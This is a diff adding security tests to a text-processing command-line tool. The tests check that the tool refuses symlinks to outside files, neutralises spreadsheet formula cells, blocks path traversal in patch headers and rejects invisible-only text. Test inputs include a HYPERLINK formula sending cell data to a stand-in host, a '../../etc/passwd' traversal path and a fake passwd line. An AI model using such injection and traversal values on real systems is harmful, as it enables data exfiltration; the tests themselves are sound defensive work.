@@ -101,3 +101,66 @@ def test_deep_json_never_takes_a_run_down(tmp_path: Path, command: str) -> None:
             None, "too_deep", "too_deep", "too_deep", "too_deep", None,
         ]  # fmt: skip
         assert [x["_raw"] for x in recs[1:5]] == [x.decode() for x in lines[1:5]]
+
+
+def test_a_link_in_an_input_folder_to_a_file_outside_is_refused(tmp_path: Path) -> None:
+    folder = tmp_path / "in"
+    folder.mkdir()
+    (folder / "story.txt").write_text("Turkey threatened on Thursday to strike jihadists in Idlib.\n", encoding="utf-8")
+    secret = tmp_path / "secret.txt"
+    secret.write_text("root:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
+    (folder / "passwd.txt").symlink_to(secret)
+    r = run_cli("run", str(folder), "--out", str(tmp_path / "out"), "-q")
+    assert r.returncode == 2, r.stderr.decode()  # a rejected record
+    out = (tmp_path / "out" / "documents.jsonl").read_text(encoding="utf-8")
+    assert "root:x:0:0" not in out
+    recs = [json.loads(line) for line in out.splitlines()]
+    assert {r["id"]: (r["wirecheck"]["rejected"] or {}).get("reason") for r in recs} == {
+        "passwd.txt": "outside_input",
+        "story.txt": None,
+    }
+    r = run_cli("run", str(folder), "--out", str(tmp_path / "out2"), "-q", "--follow-symlinks")
+    assert r.returncode == 0 and "root:x:0:0" in (tmp_path / "out2" / "documents.jsonl").read_text(encoding="utf-8")
+
+
+def test_every_csv_cell_a_spreadsheet_would_run_is_neutralised(tmp_path: Path) -> None:
+    import csv
+
+    feed = tmp_path / "in.jsonl"
+    rec = {"id": '=HYPERLINK("http://x.example/?"&A1,"click")', "title": "+cmd", "source": "@SUM(1)",
+           "text": "Turkish President Recep Tayyip Ergodan said on Wednesday , that the regime will pay ."}  # fmt: skip
+    feed.write_text(json.dumps(rec) + "\n", encoding="utf-8")
+    r = run_cli("score", str(feed), "--format", "csv", "-o", str(tmp_path / "f.csv"), "-q")
+    assert r.returncode == 0, r.stderr.decode()
+    rows = list(csv.reader((tmp_path / "f.csv").open(encoding="utf-8")))
+    assert len(rows) > 1
+    for row in rows[1:]:
+        assert all(not cell or cell[0] not in "=+-@\t\r\n" for cell in row), row
+        assert row[0].startswith("'=HYPERLINK")
+
+
+def test_two_outputs_to_one_file_are_refused(tmp_path: Path) -> None:
+    feed = tmp_path / "in.jsonl"
+    feed.write_text("\n".join(json.dumps(g) for g in GOOD) + "\n", encoding="utf-8")
+    same = tmp_path / "same.jsonl"
+    r = run_cli("dedup", str(feed), "--format", "jsonl", "-o", str(same), "--rejects", str(same), "-q")
+    assert r.returncode == 2 and b"same file" in r.stderr and not same.exists()
+
+
+def test_text_of_only_invisible_characters_is_rejected_as_empty(tmp_path: Path) -> None:
+    feed = tmp_path / "in.jsonl"
+    lines = [json.dumps({"id": "zw", "text": "\u200b\u200c\u200d\u2060\ufeff \u200b"}), *(json.dumps(g) for g in GOOD)]
+    feed.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    r = run_cli("dedup", str(feed), "--format", "jsonl", "-o", str(tmp_path / "o.jsonl"), "-q")
+    assert r.returncode == 2
+    recs = {json.loads(x)["id"]: json.loads(x)["wirecheck"] for x in (tmp_path / "o.jsonl").read_text().splitlines()}
+    assert recs["zw"]["rejected"]["reason"] == "empty_text" and recs["a"]["rejected"] is None
+
+
+def test_patch_headers_never_leave_the_folder() -> None:
+    from toolkit.report.fixes import patch
+
+    diff = patch("../../etc/passwd", "a b\n", "a c\n")
+    header = [line for line in diff.splitlines() if line.startswith(("---", "+++"))]
+    assert header == ["--- a/etc/passwd", "+++ b/etc/passwd"]
+    assert "\n--- a/x_y\n" in "\n" + patch("x\ny", "1\n", "2\n")
